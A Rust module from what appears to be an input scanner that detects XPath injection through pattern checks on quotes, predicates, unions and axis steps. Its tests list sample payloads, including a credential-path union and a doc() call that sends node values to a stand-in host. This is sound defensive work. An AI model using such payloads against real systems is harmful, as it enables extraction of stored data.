//! XPath: what leaves a predicate, and what asks for nodes that it was not meant for.

use super::{Best, Class, contains, is_word, places, trim_start};

/// Bytes of a value that is read, at most.
const LONGEST: usize = 512;

/// Functions that such a query asks with. Most are SQL's or a language's too: what is in their parentheses decides.
const CALLS: [&[u8]; 12] = [
    b"count(",
    b"string-length(",
    b"substring(",
    b"name(",
    b"local-name(",
    b"starts-with(",
    b"contains(",
    b"string(",
    b"normalize-space(",
    b"doc(",
    b"concat(",
    b"system-property(",
];
/// Steps of a path that are hardly written anywhere else. Each has a `::` or a `()`.
const AXES: [&[u8]; 14] = [
    b"/child::",
    b"/parent::",
    b"parent::*",
    b"child::node()",
    b"ancestor::",
    b"descendant::",
    b"following-sibling::",
    b"preceding-sibling::",
    b"/text()",
    b"/comment()",
    b"[position()",
    b"@*[name()",
    b"/node()",
    b"self::",
];

/// `lower`: the value, in lower case.
pub(super) fn judge(lower: &[u8], best: &mut Best) {
    if lower.len() > LONGEST {
        return;
    }
    // Few values have a path behind a parenthesis: that is looked for before the function's name.
    let asks = memchr::memchr_iter(b'(', lower)
        .any(|at| is_path(&lower[at + 1..]) && CALLS.iter().any(|call| lower[..=at].ends_with(call)));
    if asks {
        best.add(Class::XPath, "xpath-call", 75);
    }
    if leaves(lower) {
        best.add(Class::XPath, "xpath-left", 80);
    }
    // An axis in a value that leaves a string or a predicate, or is two such steps.
    let steps = contains(lower, b"::") || contains(lower, b"()");
    let axes = if steps { AXES.iter().filter(|axis| contains(lower, axis)).count() } else { 0 };
    let start = trim_start(lower);
    let begins = matches!(start.first(), Some(b'\'' | b'"' | b']' | b')')) || joined(start).is_some();
    if axes >= 2 && !lower.contains(&b' ')
        || axes >= 1 && begins
        || axes >= 1 && contains(lower, b"' or '")
        || alternative(start)
    {
        best.add(Class::XPath, "xpath-axis", 75);
    }
}

/// Whether a function's argument is a path: `/*`, `//user[1]`, `/child::node()`, or another call of these.
fn is_path(argument: &[u8]) -> bool {
    let argument = trim_start(argument);
    let nested = [&b"name("[..], b"string-length(", b"local-name(", b"doc("]
        .iter()
        .find_map(|call| argument.strip_prefix(*call));
    if let Some(inner) = nested {
        return trim_start(inner).starts_with(b"/") && !inner.starts_with(b"/)");
    }
    if argument.starts_with(b"parent::") || argument.starts_with(b"'http") && contains(argument, b"',//") {
        return true;
    }
    let Some(path) = argument.strip_prefix(b"/") else { return false };
    let deep = path.strip_prefix(b"/");
    let path = deep.unwrap_or(path);
    // `//` begins a comment and `/…/` a regular expression: a name and what ends a step.
    let name = path.iter().take_while(|byte| is_word(**byte) || matches!(**byte, b'-' | b':' | b'*')).count();
    let next = path.get(name);
    name > 0
        && match next {
            Some(b'[') => deep.is_some() || path.starts_with(b"*"),
            Some(b')' | b',') => deep.is_some() || path.starts_with(b"*") || contains(&path[..name], b"::"),
            Some(b'(') => {
                path[..name].ends_with(b"::node") || matches!(&path[..name], b"comment" | b"text" | b"node")
            }
            Some(b'/') => {
                deep.is_some() && (contains(path, b"/text()") || contains(path, b"/child::"))
                    || path.starts_with(b"*/")
            }
            _ => false,
        }
}

/// What stands behind `' or `: a quote, or a number, and the word.
fn joined(start: &[u8]) -> Option<&[u8]> {
    let lead = start.iter().take(24).take_while(|byte| is_word(**byte)).count();
    let rest = &start[lead..];
    let rest = rest.strip_prefix(b"'").or_else(|| rest.strip_prefix(b"\"")).unwrap_or(rest);
    let rest = rest.strip_prefix(b")").unwrap_or(rest);
    rest.strip_prefix(b" or ").or_else(|| rest.strip_prefix(b" and "))
}

/// A quote or a bracket that ends what the value stands in, and another path or a condition on nodes behind it.
fn leaves(lower: &[u8]) -> bool {
    let union = places(lower, b"|").take(16).any(|at| {
        let closed = matches!(lower[..at].trim_ascii_end().last(), Some(b']'));
        let path = trim_start(&lower[at + 1..]);
        closed && (path.starts_with(b"//") || path.starts_with(b"/")) && !path.starts_with(b"///")
    });
    let condition = joined(trim_start(lower)).is_some_and(|rest| {
        let rest = trim_start(rest);
        let calls = [
            &b"position()"[..],
            b"name()",
            b"node()",
            b"last()",
            b"contains(",
            b"starts-with(",
            b"count(/",
            b"not(/",
        ];
        let step = rest.strip_prefix(b"//").or_else(|| rest.strip_prefix(b"/*"));
        let path = step.is_some_and(|path| path.iter().take(64).any(|byte| matches!(byte, b'/' | b'[')));
        let quoted = matches!(lower.iter().find(|byte| !is_word(**byte)), Some(b'\'' | b'"'));
        path || quoted && calls.iter().any(|call| rest.starts_with(call))
    });
    union || condition
}

/// A path with `*` steps, or with a condition that always holds, as a whole value.
fn alternative(start: &[u8]) -> bool {
    let path = start.starts_with(b"/*[") || start.starts_with(b"//");
    path && (contains(start, b"]/*[") || contains(start, b"/text()|//") || contains(start, b"' or '1'='1"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> bool {
        let mut best = Best::default();
        judge(text.as_bytes(), &mut best);
        best.certain()
    }

    #[test]
    fn what_leaves_a_predicate_is_found() {
        for attack in [
            "' or //user/name[2]='a' or '",
            "' or contains(name,'a') or '",
            "' or starts-with(name,'a') or '",
            "'] | //password | a['",
            "1] | //* | //*[1",
            "')] | //q | //*[contains(a,'",
            "substring(//user[1],2,1)",
            "string-length(//u[position()=1]/child::node()[position()=2])",
            "doc(concat('http://e.example/',//user[1]))",
            "' or @*[name()='x'] or '",
            "']/parent::*/child::node()['",
            "3 or count(parent::*[position()=1])=0",
            "//user[name/text()='x' or '1'='1']",
            "/*[1]/*[2]/text()|//role",
        ] {
            assert!(found(attack), "{attack}");
        }
    }

    #[test]
    fn code_paths_and_prose_pass() {
        for benign in [
            "count(//comment\nx)",
            "str.contains(/a|b/)",
            "substring(0, 5)",
            "contains(name, 'a') or b",
            "it's here or contains(the rest)",
            "a | /b/c",
            "[a] | [b]",
            "| [x](//example.com) | /y |",
            "https://example.com//a[1]",
            "std::self::x",
            "//div[@class='x']",
            "concat('a', 'b')",
            "/users/{id} or /groups/{id}",
        ] {
            assert!(!found(benign), "{benign}");
        }
    }
}
